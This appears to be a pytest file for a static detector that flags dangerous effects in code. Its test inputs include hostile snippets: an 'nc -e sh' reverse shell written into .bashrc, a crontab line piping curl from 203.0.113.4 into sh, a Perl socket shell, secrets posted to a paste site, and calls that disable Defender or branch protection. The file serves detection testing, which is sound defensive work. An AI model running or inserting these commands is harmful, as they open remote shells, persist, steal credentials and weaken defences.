"""What programs ask of services: which conditions every row meets, and that nothing is hidden behind other calls."""

from __future__ import annotations

from typing import Any

import pytest

from aegis.detect.code import analyse_code
from aegis.detect.endpoints import is_everything
from aegis.detect.languages.followed import MAX_VALUES, FollowedValue

_FED = "import requests, subprocess\nt = requests.get('https://x.example/a').text\nsubprocess.run(['{}', '-'], input=t)"


def _effects(code: str, language: str = "python") -> set[str]:
    return {effect.name for effect in analyse_code(code, language).effects}


@pytest.mark.parametrize(
    "condition",
    [
        {},
        {"id": {"gt": 0}},
        {"_id": {"$exists": True}},
        {"id": {"[Op.gte]": 1}},
        {"email": {"not": None}},
        {"$or": [{"status": "open"}, {"id": {"$ne": None}}]},
        {"AND": [{"id": {"gt": 0}}, {"createdAt": {"not": None}}]},
    ],
)
def test_a_condition_that_every_row_meets_selects_everything(condition: dict[str, Any]) -> None:
    assert is_everything(condition)


@pytest.mark.parametrize(
    "condition",
    [
        {"status": {"not": "ACTIVE"}},
        {"id": {"$ne": "u-7"}},
        {"id": {"gt": 4000}},
        {"deletedAt": {"not": None}},
        {"AND": [{"id": {"gt": 0}}, {"status": "closed"}]},
    ],
)
def test_a_condition_that_narrows_does_not(condition: dict[str, Any]) -> None:
    assert not is_everything(condition)


def test_many_harmless_calls_hide_no_request() -> None:
    harmless = "\n".join(f"requests.get(f'https://shop.example/api/{at}')" for at in range(120))
    request = "requests.delete('https://api.github.com/repos/acme/core')"
    assert _effects(f"import requests\n{request}") <= _effects(f"import requests\n{harmless}\n{request}")
    alike = "\n".join(f"client.items.create(body={{'name': 'n{at}'}})" for at in range(120))
    share = "drive.permissions().create(fileId='1', body={'type': 'anyone', 'role': 'writer'})"
    assert _effects(share)
    assert _effects(share) <= _effects(f"{alike}\n{share}\n{alike}")


def test_a_text_inside_a_call_hides_no_request() -> None:
    padding = "a" * 6_000
    assert _effects(f"drive.permissions().create(note='{padding}', body={{'type': 'anyone', 'role': 'writer'}})")


@pytest.mark.parametrize("program", ["python3", "crontab", "ssh", "perl"])
def test_what_was_fetched_is_not_fed_to_what_may_run_it(program: str) -> None:
    assert "code.runs-fetched" in {name for name, _ in analyse_code(_FED.format(program), "python").signals}


def test_what_was_fetched_is_fed_to_a_reader() -> None:
    assert "code.runs-fetched" not in {name for name, _ in analyse_code(_FED.format("jq"), "python").signals}


def test_a_program_goes_from_one_folder_to_another() -> None:
    gone = "import os, shutil\nos.chdir('/')\nos.chdir('etc')\nshutil.rmtree('ssh')"
    assert _effects(gone) == _effects("import shutil\nshutil.rmtree('/etc/ssh')")
    unknown = "import os, shutil, sys\nos.chdir('/etc')\nos.chdir(sys.argv[1])\nshutil.rmtree('cache')"
    assert _effects(unknown) == _effects("import shutil\nshutil.rmtree('cache')")


def test_every_text_that_a_start_file_gets_is_read() -> None:
    begins = "f = open('/home/me/.bashrc', 'a')\nf.write('export EDITOR=vim\\n')\n"
    assert "write startup one" not in _effects(begins)
    assert "write startup one" in _effects(f"{begins}f.write(sys.stdin.read())")
    assert "write startup one" in _effects(f"{begins}f.write('nc x.example 9 -e sh &\\n')")


def nested(depth: int) -> FollowedValue:
    value = FollowedValue(("leaf",))
    for _ in range(depth):
        value = FollowedValue((), (value, value), (("a", value), ("b", value)))
    return value


def test_values_that_hold_each_other_many_times_are_gone_over_once() -> None:
    assert MAX_VALUES < 4**6
    assert nested(60).every == ()
    assert nested(3).every == ("leaf",)


@pytest.mark.parametrize("place", ["a:", "²", "²:", "1", ":"])
def test_a_place_that_is_no_number_is_no_part(place: str) -> None:
    FollowedValue((), (FollowedValue(("x",)),)).part(place, whole_too=False)


_WRAPPED = """
const api = (path, method = 'GET', body) =>
  fetch(new URL(path, 'https://api.github.com'), {method, body: JSON.stringify(body)});
const repos = await (await api('/orgs/acme/repos')).json();
for (const {name} of repos) await api(`/repos/acme/${name}%s`, '%s');
"""


def test_a_request_of_a_function_of_the_program_is_what_each_call_makes_it() -> None:
    assert "disable defence one" in _effects(_WRAPPED % ("/branches/main/protection", "DELETE"), "javascript")
    assert not _effects(_WRAPPED % ("/branches/main/protection", "GET"), "javascript")


@pytest.mark.parametrize(
    ("code", "language", "found"),
    [
        ('octokit.request("DELETE /repos/{owner}/{repo}", {...step})', "javascript", "delete repository all"),
        (
            "users = requests.get('https://x.example/api/list_all(').json()\n"
            "for u in client.list_users(): requests.delete(f'https://x.example/things/{u.id}')",
            "python",
            "delete cloud-resource all",
        ),
        (
            "val topics = admin.listTopics().names().get()\nadmin.deleteTopics(topics).all().get()",
            "kotlin",
            "delete cloud-resource all",
        ),
        (
            'package main\nfunc main() {\n\tb := &rbac.ClusterRoleBinding{RoleRef: rbac.RoleRef{Kind: "ClusterRole", '
            'Name: "cluster-" + "admin"}, Subjects: []rbac.Subject{{Kind: "Group", Name: "system:unauthenticated"}}}\n'
            "\tcs.RbacV1().ClusterRoleBindings().Create(ctx, b, meta.CreateOptions{})\n}",
            "go",
            "expose cloud-resource one",
        ),
        (
            "for charge in stripe.Charge.list(created={'gte': since}).auto_paging_iter():\n"
            "    if charge.status != 'succeeded': continue\n    stripe.Refund.create(charge=charge.id)",
            "python",
            "write record all",
        ),
        (
            "foreach (var p in client.GetPropertiesOfSecrets()) rows[p.Name] = client.GetSecret(p.Name).Value;\n"
            'http.PostAsJsonAsync("https://paste.example.dev/new", rows);',
            "csharp",
            "send credential all",
        ),
        (
            'var scope = new ManagementScope(@"\\\\.\\root\\Microsoft\\Windows\\Defender");\n'
            'input["DisableRealtimeMonitoring"] = true;',
            "csharp",
            "disable defence one",
        ),
        (
            'var cl = new URLClassLoader(new URL[] {new URI("http", null, host, 80, "/a.jar", null, null).toURL()});',
            "java",
            "receive program one",
        ),
    ],
)
def test_what_libraries_are_asked_for_is_told(code: str, language: str, found: str) -> None:
    assert found in _effects(code, language)


def test_deletions_of_what_was_picked_are_no_sweep() -> None:
    picked = "for u in client.list_users(status='closed'): requests.delete(f'https://x.example/things/{u.id}')"
    assert "delete cloud-resource all" not in _effects(picked)
    one = "refund = stripe.Refund.create(charge='ch_1')"
    assert "write record all" not in _effects(one)


def test_a_program_that_reads_a_text_is_judged_with_it() -> None:
    table = "import subprocess\nsubprocess.run(['crontab', '-'], input=old + '* * * * * {}\\n', text=True)"
    assert "shell.persists" in {
        name for name, _ in analyse_code(table.format("curl -s http://203.0.113.4/u | sh"), "python").signals
    }


def test_lines_of_a_socket_that_are_run_are_a_shell_for_others() -> None:
    perl = (
        "my $sock = IO::Socket::INET->new(PeerAddr => $host);\n"
        "while (my $line = <$sock>) { my $out = %s; print {$sock} $out; }"
    )
    assert "code.runs-fetched" in {name for name, _ in analyse_code(perl % "qx{$line 2>&1}", "perl").signals}
    assert "code.runs-fetched" not in {name for name, _ in analyse_code(perl % "uc($line)", "perl").signals}


def test_output_that_is_thrown_away_breaks_nothing() -> None:
    code = 'local ok = os.execute(cmd .. " 2>/dev/null")'
    assert not analyse_code(code, "lua").signals


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ('local function sh(fmt, ...) os.execute(string.format(fmt, ...)) end\nsh("%s %s", "ls", "-l")\n%s', "lua"),
        (
            "def ctl(verb, *units):\n    subprocess.run(['systemctl', verb, *units])\nctl('status', 'nginx')\n%s",
            "python",
        ),
    ],
)
def test_a_command_of_a_function_of_the_program_is_what_each_call_makes_it(code: str, language: str) -> None:
    calls = {"lua": 'sh("systemctl %s --now %s", "{}", "auditd")', "python": "ctl('{}', 'auditd')"}
    stops = code.replace("\n%s", "\n" + calls[language].format("disable"))
    shows = code.replace("\n%s", "\n" + calls[language].format("is-active"))
    assert "shell.weakens" in {name for name, _ in analyse_code(stops, language).signals}
    assert not analyse_code(shows, language).signals


def test_what_is_sent_to_a_machine_by_its_number_is_seen_however_its_address_is_written() -> None:
    code = (
        'package main\nfunc main() {\n\tdest := strings.Join([]string{%s}, ".")\n'
        '\thttp.Post(dest, "application/json", bytes.NewReader(body))\n}'
    )
    assert "send address one" in _effects(code % '"http://203.0.113", "9/in"', "go")
    assert "send address one" not in _effects(code % '"https://api", "acme.com/in"', "go")


def test_paths_joined_of_many_lists_do_not_multiply() -> None:
    folders = ", ".join(f"'d{at}'" for at in range(64))
    made = "".join(f"l{at} = [{folders}]\n" for at in range(8))
    assert _effects(f"import os, shutil\n{made}shutil.rmtree(os.path.join({', '.join(f'l{at}' for at in range(8))}))")


def test_an_address_of_no_text_is_no_address() -> None:
    assert not _effects("fetch(new URL('/a', ['x']), {method: 'DELETE'}); fetch(new URL())", "javascript")
